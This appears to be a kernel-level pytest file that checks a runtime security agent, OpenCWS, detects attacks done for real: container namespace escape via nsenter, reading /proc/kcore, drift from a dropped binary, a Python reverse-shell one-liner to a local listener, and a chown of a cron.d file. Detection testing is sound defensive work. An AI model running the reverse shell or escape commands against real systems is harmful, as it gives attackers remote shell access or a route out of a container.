"""The default policy on the real kernel: attacks done for real by processes, reported by the running agent."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import threading

import pytest
from agent_harness import Harness, started_agent

from opencws.schema.validation import event_validator

pytestmark = pytest.mark.kernel


@pytest.fixture(scope="module")
def harness(require_kernel):
    with started_agent() as h:
        yield h


def fired(harness: Harness, rule: str) -> list[dict]:
    events = [line["event"] for line in harness.events(rule)]
    for e in events:
        assert not event_validator().issues(e), event_validator().issues(e)
    return events


def test_a_container_trying_to_enter_the_hosts_namespaces_and_read_kernel_memory_is_reported(
    harness, tmp_path
):
    from containers import run_container

    with run_container(tmp_path, command=["sleep", "30"]) as c:
        harness.clear()
        c.exec(["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "true"], check=False)
        c.exec(["cat", "/proc/kcore"], check=False)
        tools = fired(harness, "privesc_container_namespace_tool")
        devices = fired(harness, "privesc_container_host_device_open")
    assert [e["process"]["comm"] for e in tools] == ["nsenter"]
    assert tools[0]["container"] == {"id": c.id}
    assert [e["file"]["path"] for e in devices] == ["/proc/kcore"]
    assert devices[0]["container"] == {"id": c.id}


def test_a_program_written_into_a_running_container_is_reported_as_drift_when_it_runs(harness, tmp_path):
    from containers import run_container

    lower, upper, work, merged = (tmp_path / n for n in ("lower", "upper", "work", "merged"))
    for p in (lower, upper, work, merged):
        p.mkdir()
    busybox = shutil.which("busybox")
    assert busybox is not None
    shutil.copy(busybox, lower / "true")  # shipped with the "image"
    options = f"lowerdir={lower},upperdir={upper},workdir={work}"
    subprocess.run(["mount", "-t", "overlay", "overlay", "-o", options, str(merged)], check=True)
    try:
        with run_container(tmp_path, command=["sleep", "30"], bind={str(merged): "/app"}) as c:
            c.exec(["cp", "/app/true", "/app/dropped"])  # written after the start: in the upper layer
            harness.clear()
            c.exec(["/app/true"])
            c.exec(["/app/dropped"], check=False)  # busybox under an unknown applet name: runs, then fails
            drift = fired(harness, "exec_container_drift")
    finally:
        subprocess.run(["umount", str(merged)], check=False)
    executables = [e["process"]["executable"] for e in drift]
    assert [x["path"] for x in executables] == ["/app/dropped"], drift
    assert executables[0]["in_upper_layer"] is True and drift[0]["container"] == {"id": c.id}


def test_a_python_one_line_reverse_shell_is_reported(harness, tmp_path):
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]

    def serve() -> None:  # the attacker's end: tell the shell to leave
        conn, _ = listener.accept()
        with conn:
            conn.sendall(b"exit\n")
            conn.settimeout(5)
            try:
                while conn.recv(4096):
                    pass
            except OSError:
                pass

    server = threading.Thread(target=serve, daemon=True)
    server.start()
    one_liner = (
        f"import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{port}));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
    )
    harness.clear()
    proc = subprocess.run([sys.executable, "-c", one_liner], capture_output=True, timeout=30, check=False)
    server.join(10)
    listener.close()
    events = fired(harness, "exec_scripted_reverse_shell")
    assert [e["process"]["pid"] for e in events] != [], proc
    assert events[0]["process"]["args"][-1] == one_liner
    assert os.path.basename(events[0]["process"]["executable"]["path"]).startswith("python3")


def test_a_watched_system_file_given_to_another_user_is_reported(harness):
    # `chown.file.uid` is the owner before the call (root), `destination.uid` the one asked for (Datadog's meaning)
    path = f"/etc/cron.d/opencws-test-{os.getpid()}"
    with open(path, "w") as f:
        f.write("# an OpenCWS test file: no job\n")
    try:
        harness.clear()
        harness.child(lambda: os.chown(path, 65534, 65534))  # the agent leaves its own process out
        harness.child(lambda: os.chown(path, 65534, 65534))  # the owner it has already: quiet
        harness.sync()
        events = fired(harness, "defense_watched_file_owner_changed")
    finally:
        os.unlink(path)
    assert [e["file"]["path"] for e in events] == [path]
    assert (events[0]["file"]["uid"], events[0]["file"]["destination"]["uid"]) == (0, 65534)
